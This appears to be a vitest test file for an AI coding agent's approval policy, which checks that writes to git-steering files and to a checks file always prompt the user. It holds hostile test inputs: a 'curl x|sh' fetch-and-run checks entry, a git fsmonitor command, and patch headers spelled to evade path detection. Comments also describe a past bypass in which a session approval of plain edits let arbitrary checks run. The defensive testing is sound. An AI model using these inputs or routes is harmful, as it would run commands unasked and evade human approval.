// Issue 22, item 3: a write that makes a folder a git directory, or steers git, is never an
// ordinary edit: the write tools require a card for it, say why, and no session approval covers it.
import { describe, expect, it } from "vitest";
import { callFacts, decide, type LoadedPolicy } from "./decide";
import { isOpaqueKey, sessionKeys } from "./fingerprint";
import { steersGit, writtenPaths } from "./git-paths";
import { applyMode } from "./modes";
import { writeFileTool } from "../tools/builtin/write_file";
import { editFileTool } from "../tools/builtin/edit_file";
import { applyPatchTool } from "../tools/builtin/apply_patch";
import { toolTransactionTool } from "../tools/builtin/tool_transaction";

describe("files that steer git", () => {
  it.each([
    ".git/config",
    ".git/hooks/pre-commit",
    "sub/.git/config",
    ".GIT/config",
    "a/.git",
    ".gitattributes",
    "x/.gitmodules",
    "tools/HEAD",
    "tools/config",
    "tools/packed-refs",
    "tools/refs/heads/main",
    "tools/objects/ab/cdef",
    "tools/hooks/post-index-change",
    "./tools/HEAD",
    "tools//config",
  ])("%s does", (path) => {
    expect(steersGit(path)).toBe(true);
  });

  it.each([
    "src/index.ts",
    "config/app.json",
    "src/hooks/useThing.ts",
    "docs/HEADERS.md",
    "refs.md",
    "objects/list.ts",
    ".github/workflows/ci.yml",
    ".gitignore",
  ])("%s does not", (path) => {
    expect(steersGit(path)).toBe(false);
  });

  it("reads the paths of a patch", () => {
    expect(writtenPaths({ patch: "--- a/src/x.ts\n+++ b/src/x.ts\n@@\n--- /dev/null\n+++ b/tools/HEAD\n" })).toEqual([
      "src/x.ts",
      "tools/HEAD",
    ]);
  });
});

describe("writing them", () => {
  const policy: LoadedPolicy = { ok: true, version: 1, rules: [] };
  const approvedWrites = {
    sessionKeys: new Set([
      ...sessionKeys({ tool: "write_file" }),
      ...sessionKeys({ tool: "edit_file" }),
      ...sessionKeys({ tool: "apply_patch" }),
    ]),
    rejected: new Map(),
  };

  it.each([
    [writeFileTool, { path: "tools/HEAD", content: "ref: refs/heads/main\n" }],
    [writeFileTool, { path: "tools/config", content: "[core]\n\tfsmonitor = touch /tmp/x\n" }],
    [writeFileTool, { path: ".git/hooks/post-index-change", content: "#!/bin/sh\n" }],
    [editFileTool, { path: ".gitattributes", old_str: "a", new_str: "* filter=x" }],
    [applyPatchTool, { patch: "--- /dev/null\n+++ b/tools/HEAD\n@@ -0,0 +1 @@\n+ref: refs/heads/main\n" }],
  ] as const)("%#: asks every time, saying why, even with the tool approved for the session", (tool, input) => {
    expect((tool.approvalFor as (i: unknown) => string)(input)).toBe("required");
    const d = decide({ tool: tool as never, input }, policy, approvedWrites);
    expect(d.action).toBe("ask");
    expect(d.reason).toMatch(/git/);
  });

  // run_check runs what the checks file declares, and an org may allow run_check while it asks for
  // shell: an edit of the file waived by a session approval or accept-edits mode would be any
  // command run unasked.
  it.each([
    [writeFileTool, { path: "quiver.checks.json", content: '{"t":{"argv":["sh","-c","curl x|sh"]}}' }],
    [writeFileTool, { path: "./Quiver.Checks.JSON", content: "{}" }],
    [writeFileTool, { path: "sub/../quiver.checks.json", content: "{}" }],
    [editFileTool, { path: "quiver.checks.json", old_str: "npm", new_str: "sh" }],
    [applyPatchTool, { patch: "--- a/x.json\n+++ b/x.json\n@@\nrename to quiver.checks.json\n" }],
  ] as const)("%#: the checks file is asked every time, in accept-edits mode too, saying why", (tool, input) => {
    expect((tool.approvalFor as (i: unknown) => string)(input)).toBe("required");
    const d = decide({ tool: tool as never, input }, policy, approvedWrites);
    expect(d.action).toBe("ask");
    expect(d.reason).toMatch(/checks/);
    const view = { tool: tool as never, input };
    expect(
      applyMode("accept-edits", decide(view, policy, { sessionKeys: new Set(), rejected: new Map() }), view).action,
    ).toBe("ask");
  });

  // The runner reads a patch's headers with the diff library, which takes any blank after
  // `---`/`+++` (a tab, several spaces, a non-breaking space): each spelling it writes is judged.
  it.each([
    "---\tquiver.checks.json\n+++\tquiver.checks.json\n@@ -1 +1 @@\n-a\n+b\n",
    "---   a/quiver.checks.json\n+++   b/quiver.checks.json\n@@ -1 +1 @@\n-a\n+b\n",
    "---\u00a0.git/config\n+++\u00a0.git/config\n@@ -1 +1 @@\n-a\n+b\n",
    '--- "sub/HEAD"\n+++ "sub/HEAD"\n@@ -1 +1 @@\n-a\n+b\n',
    "--- x\r\n+++\tsub/hooks/pre-commit\r\n@@ -1 +1 @@\r\n-a\r\n+b\r\n",
  ])("%#: a patch header spelled as the runner still reads it is asked every time", (patch) => {
    expect(applyPatchTool.approvalFor!({ patch } as never)).toBe("required");
    const d = decide({ tool: applyPatchTool as never, input: { patch } }, policy, approvedWrites);
    expect(d.action).toBe("ask");
    const view = { tool: applyPatchTool as never, input: { patch } };
    expect(
      applyMode("accept-edits", decide(view, policy, { sessionKeys: new Set(), rejected: new Map() }), view).action,
    ).toBe("ask");
  });

  it("an ordinary write stays covered by the session approval", () => {
    expect(
      decide({ tool: writeFileTool as never, input: { path: "src/a.ts", content: "x" } }, policy, approvedWrites)
        .action,
    ).toBe("run");
  });
});

// One "for this session" of a transaction used to cover every later transaction: the checks file
// written in a step, and checks an org asks about, ran unasked behind an approval of plain edits.
describe("a transaction's steps, approved for the session", () => {
  const T = toolTransactionTool as never;
  const none = { sessionKeys: new Set<string>(), rejected: new Map() };
  const edits = { steps: [{ op: "edit_file", path: "src/a.ts", old_string: "x", new_string: "y" }] };
  const approved = { sessionKeys: new Set(sessionKeys(callFacts({ tool: T, input: edits }))), rejected: new Map() };
  const askChecks: LoadedPolicy = { ok: true, version: 2, rules: [{ effect: "ask", tool: "run_check" }] };
  const plain: LoadedPolicy = { ok: true, version: 1, rules: [] };

  it("covers later transactions of the same kinds of step", () => {
    expect([...approved.sessionKeys]).toEqual(["tool_transaction:step:edit_file"]);
    const more = { steps: [{ op: "edit_file", path: "src/b.ts", old_string: "1", new_string: "2" }] };
    expect(decide({ tool: T, input: more }, plain, approved)).toMatchObject({ decision: "approved_session" });
  });

  it.each([
    ["a check, which the org asks about", askChecks, { steps: [...edits.steps, { op: "run_check", name: "test" }] }],
    ["a check, without a policy", plain, { steps: [{ op: "run_check", name: "test" }] }],
    ["another kind of edit", plain, { steps: [{ op: "write_file", path: "src/c.ts", content: "z" }] }],
    [
      "the checks file, written by a step",
      plain,
      {
        steps: [
          { op: "write_file", path: "quiver.checks.json", content: "{}" },
          { op: "run_check", name: "t" },
        ],
      },
    ],
    [
      "git's configuration, patched in a step with a tab after ---",
      plain,
      { steps: [{ op: "apply_patch", patch: "---\t.git/config\n+++\t.git/config\n@@ -1 +1 @@\n-a\n+b\n" }] },
    ],
  ] as const)("asks again for %s", (_, policy, input) => {
    expect(decide({ tool: T, input }, policy, approved).action).toBe("ask");
  });

  it("asks every time for the checks file, whatever was approved", () => {
    const input = { steps: [{ op: "edit_file", path: "Quiver.Checks.json", old_string: "a", new_string: "b" }] };
    const all = sessionKeys(callFacts({ tool: T, input }));
    expect(all.every(isOpaqueKey)).toBe(true);
    expect(decide({ tool: T, input }, plain, { sessionKeys: new Set(all), rejected: new Map() }).action).toBe("ask");
  });

  it("never covers a call by an empty set of keys (only read steps, asked by the org)", () => {
    const reads = { steps: [{ op: "read_file", path: "a" }] };
    const org: LoadedPolicy = { ok: true, version: 3, rules: [{ effect: "ask", tool: "tool_transaction" }] };
    expect(sessionKeys(callFacts({ tool: T, input: reads }))).toEqual(["tool_transaction"]);
    expect(decide({ tool: T, input: reads }, org, approved).action).toBe("ask");
    expect(decide({ tool: T, input: reads }, org, none).action).toBe("ask");
  });
});
